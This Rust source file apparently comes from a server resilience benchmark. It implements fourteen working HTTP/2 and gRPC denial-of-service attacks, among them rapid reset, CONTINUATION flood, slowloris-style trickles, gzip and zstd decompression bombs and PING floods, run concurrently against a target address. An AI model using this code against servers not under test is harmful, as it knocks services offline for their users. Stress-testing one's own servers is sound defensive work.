//! The attacks. Each is a session: a connection (or a few) that does harm for a
//! moment and ends. Many run at once, again and again, at a given pace, so that
//! two targets are attacked with equal force.

use std::{
    io::{self, Write as _},
    net::SocketAddr,
    sync::OnceLock,
    time::Duration,
};

use bytes::Bytes;
use mesh::identity::Identity;
use tokio::{io::AsyncWriteExt as _, task::JoinSet, time::Instant};
use tokio_util::sync::CancellationToken;

use crate::{
    frames::{self, code, flag, kind},
    site::METHOD,
    wire::{self, Receiver, Sender, WINDOW},
};

/// How many sessions run at once.
const SESSIONS: u32 = 8;
/// How often each begins at most.
const PACE: Duration = Duration::from_millis(100);
/// How long a session may last.
const SESSION: Duration = Duration::from_secs(1);
/// How often a slow one sends its next byte.
const TRICKLE: Duration = Duration::from_millis(50);
/// What a bomb becomes.
const BOMB: usize = 16 * 1024 * 1024;

/// One way to do harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are cancelled in the same breath (CVE-2023-44487).
    RapidReset,
    /// Requests that are cancelled as soon as the server works on them.
    LateReset,
    /// Headers that go on and on (CVE-2024-27316).
    ContinuationFlood,
    /// Headers that trickle.
    SlowHeaders,
    /// Bodies that trickle.
    SlowBody,
    /// Answers that aren't read.
    SlowRead,
    /// A megabyte of headers, and many that are just small enough.
    HugeMetadata,
    /// A little gzip that becomes much.
    GzipBomb,
    /// A little zstd that becomes much.
    ZstdBomb,
    /// Anything but TLS.
    GarbageBeforeTls,
    /// TLS, and in it anything but HTTP/2.
    GarbageInTls,
    /// Requests whose sender closes its half.
    HalfClosed,
    /// Connections, and handshakes, that stop in the middle.
    Silence,
    /// Signs of life asked for without end.
    PingFlood,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 14] = [
        Self::RapidReset,
        Self::LateReset,
        Self::ContinuationFlood,
        Self::SlowHeaders,
        Self::SlowBody,
        Self::SlowRead,
        Self::HugeMetadata,
        Self::GzipBomb,
        Self::ZstdBomb,
        Self::GarbageBeforeTls,
        Self::GarbageInTls,
        Self::HalfClosed,
        Self::Silence,
        Self::PingFlood,
    ];

    /// Its name, for tables.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::LateReset => "late reset",
            Self::ContinuationFlood => "CONTINUATION flood",
            Self::SlowHeaders => "slow headers",
            Self::SlowBody => "slow body",
            Self::SlowRead => "slow read",
            Self::HugeMetadata => "huge metadata",
            Self::GzipBomb => "gzip bomb",
            Self::ZstdBomb => "zstd bomb",
            Self::GarbageBeforeTls => "garbage before TLS",
            Self::GarbageInTls => "garbage in TLS",
            Self::HalfClosed => "half-closed",
            Self::Silence => "silence",
            Self::PingFlood => "PING flood",
        }
    }

    /// Goes on against `address` until `stop`; answers how many sessions ran.
    pub async fn run(
        self,
        identity: &Identity,
        address: SocketAddr,
        stop: CancellationToken,
    ) -> usize {
        self.prepare();
        let mut attackers = JoinSet::new();
        for attacker in 0..SESSIONS {
            let (identity, stop) = (identity.clone(), stop.clone());
            attackers.spawn(async move {
                let mut due = Instant::now() + PACE * attacker / SESSIONS;
                let mut sessions = 0;
                while stop.run_until_cancelled(tokio::time::sleep_until(due)).await.is_some() {
                    let session = self.session(&identity, address);
                    // How the server ends it is its own affair.
                    let _ = stop.run_until_cancelled(tokio::time::timeout(SESSION, session)).await;
                    sessions += 1;
                    due = Instant::now().max(due + PACE);
                }
                sessions
            });
        }
        attackers.join_all().await.into_iter().sum()
    }

    /// One session.
    ///
    /// # Errors
    /// When the server closes the connection.
    pub async fn session(self, identity: &Identity, address: SocketAddr) -> io::Result<()> {
        match self {
            Self::GarbageBeforeTls => {
                let mut stream = wire::tcp(address).await?;
                stream.write_all(&noise(64 * 1024)).await
            }
            Self::GarbageInTls => {
                let mut stream = wire::tls(identity, address).await?;
                stream.write_all(&noise(64 * 1024)).await
            }
            Self::Silence => {
                let mut silent = wire::tcp(address).await?;
                // The first bytes of a ClientHello.
                silent.write_all(&[22, 3, 1, 1, 0]).await?;
                let _tcp = (silent, wire::tcp(address).await?);
                let _tls = wire::tls(identity, address).await?;
                std::future::pending().await
            }
            _ => {
                let window = if self == Self::SlowRead { 0 } else { WINDOW };
                let (sender, mut receiver) = wire::open(identity, address, window).await?;
                tokio::select! {
                    done = self.send(sender) => done,
                    // The server's answers make no difference, but its end does.
                    () = drain(&mut receiver) => Ok(()),
                }
            }
        }
    }

    async fn send(self, mut to: Sender) -> io::Result<()> {
        match self {
            Self::RapidReset => loop {
                let mut burst = vec![];
                for _ in 0..100 {
                    let stream = to.stream();
                    burst.extend(request(stream));
                    burst.extend(frames::reset(stream, code::CANCEL));
                }
                to.send(&burst).await?;
                tokio::time::sleep(TRICKLE / 10).await;
            },
            Self::LateReset => loop {
                let streams: Vec<u32> = (0..100).map(|_| to.stream()).collect();
                let requests: Vec<u8> = streams.iter().flat_map(|s| request(*s)).collect();
                to.send(&requests).await?;
                tokio::time::sleep(TRICKLE / 10).await;
                let resets = streams.iter().flat_map(|s| frames::reset(*s, code::CANCEL));
                to.send(&resets.collect::<Vec<u8>>()).await?;
            },
            Self::ContinuationFlood => {
                let stream = to.stream();
                let block = frames::headers(METHOD, &[]);
                to.send(&frames::frame(kind::HEADERS, flag::NONE, stream, &block)).await?;
                // A field of 16 KB in each frame.
                let field = frames::headers(METHOD, &[("x", &"x".repeat(16_000))]);
                let more = frames::frame(kind::CONTINUATION, flag::NONE, stream, &field);
                loop {
                    to.send(&more).await?;
                }
            }
            Self::SlowHeaders => {
                let stream = to.stream();
                to.send(&frames::frame(kind::HEADERS, flag::NONE, stream, &[])).await?;
                loop {
                    to.send(&frames::frame(kind::CONTINUATION, flag::NONE, stream, &[0])).await?;
                    tokio::time::sleep(TRICKLE).await;
                }
            }
            Self::SlowBody => {
                let mut streams = vec![];
                for _ in 0..50 {
                    let stream = to.begin(&[]).await?;
                    streams.push(stream);
                    let begun = frames::message(false, &[0; 1000]);
                    to.send(&frames::frame(kind::DATA, flag::NONE, stream, &begun[..100])).await?;
                }
                loop {
                    for stream in &streams {
                        to.send(&frames::frame(kind::DATA, flag::NONE, *stream, &[0])).await?;
                    }
                    tokio::time::sleep(TRICKLE).await;
                }
            }
            Self::SlowRead => {
                for _ in 0..50 {
                    let stream = to.begin(&[]).await?;
                    let whole = frames::message(false, &[]);
                    to.send(&frames::frame(kind::DATA, flag::END_STREAM, stream, &whole)).await?;
                }
                std::future::pending().await
            }
            Self::HugeMetadata => {
                for _ in 0..20 {
                    let block = frames::headers(METHOD, &[("x", &"x".repeat(15_000))]);
                    let stream = to.stream();
                    let flags = flag::END_HEADERS | flag::END_STREAM;
                    to.send(&frames::frame(kind::HEADERS, flags, stream, &block)).await?;
                }
                huge(&mut to).await?;
                std::future::pending().await
            }
            Self::GzipBomb => loop {
                bomb(&mut to, "gzip").await?;
            },
            Self::ZstdBomb => loop {
                bomb(&mut to, "zstd").await?;
            },
            Self::HalfClosed => {
                to.begin(&[]).await?;
                to.shut().await?;
                std::future::pending().await
            }
            Self::PingFlood => {
                let ping = frames::frame(kind::PING, flag::NONE, 0, &[0; 8]);
                let pings: Vec<u8> = ping.iter().copied().cycle().take(100 * ping.len()).collect();
                loop {
                    to.send(&pings).await?;
                    tokio::time::sleep(TRICKLE / 10).await;
                }
            }
            Self::GarbageBeforeTls | Self::GarbageInTls | Self::Silence => Ok(()),
        }
    }

    /// Makes what takes long before it is needed.
    fn prepare(self) {
        match self {
            Self::GzipBomb => drop(bomb_of("gzip")),
            Self::ZstdBomb => drop(bomb_of("zstd")),
            _ => {}
        }
    }
}

/// A request's headers, without a body yet.
fn request(stream: u32) -> Bytes {
    frames::frame(kind::HEADERS, flag::END_HEADERS, stream, &frames::headers(METHOD, &[]))
}

/// A request with a megabyte of headers, each frame of which is as it should be.
///
/// # Errors
/// When the connection is closed.
pub async fn huge(to: &mut Sender) -> io::Result<()> {
    let block = frames::headers(METHOD, &[("x", &"x".repeat(1024 * 1024))]);
    let stream = to.stream();
    let mut kind = kind::HEADERS;
    let mut parts = block.chunks(16_000).peekable();
    while let Some(part) = parts.next() {
        let flags = if parts.peek().is_none() { flag::END_HEADERS } else { flag::NONE };
        to.send(&frames::frame(kind, flags, stream, part)).await?;
        kind = kind::CONTINUATION;
    }
    Ok(())
}

/// A request whose message becomes far more than it is; answers its stream.
///
/// # Errors
/// When the connection is closed.
pub async fn bomb(to: &mut Sender, encoding: &str) -> io::Result<u32> {
    let stream = to.begin(&[("grpc-encoding", encoding)]).await?;
    let message = frames::message(true, &bomb_of(encoding));
    let mut parts = message.chunks(16_000).peekable();
    while let Some(part) = parts.next() {
        let flags = if parts.peek().is_none() { flag::END_STREAM } else { flag::NONE };
        to.send(&frames::frame(kind::DATA, flags, stream, part)).await?;
    }
    tokio::time::sleep(TRICKLE).await;
    Ok(stream)
}

/// Zeros, compressed; made once.
fn bomb_of(encoding: &str) -> Bytes {
    static GZIP: OnceLock<Bytes> = OnceLock::new();
    static ZSTD: OnceLock<Bytes> = OnceLock::new();
    let gzip = || {
        let mut gzip = flate2::write::GzEncoder::new(vec![], flate2::Compression::fast());
        gzip.write_all(&vec![0; BOMB]).expect("memory takes it");
        gzip.finish().expect("memory takes it").into()
    };
    let zstd = || zstd::encode_all(&*vec![0; BOMB], 1).expect("memory takes it").into();
    match encoding {
        "gzip" => GZIP.get_or_init(gzip).clone(),
        _ => ZSTD.get_or_init(zstd).clone(),
    }
}

/// Bytes that mean nothing, the same ones each time.
fn noise(length: usize) -> Vec<u8> {
    // Source: Knuth's MMIX linear congruential generator.
    let step = |x: &u64| Some(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1));
    std::iter::successors(Some(1_u64), step).map(|x| (x >> 56) as u8).take(length).collect()
}

async fn drain(receiver: &mut Receiver) {
    while receiver.next().await.is_some() {}
}
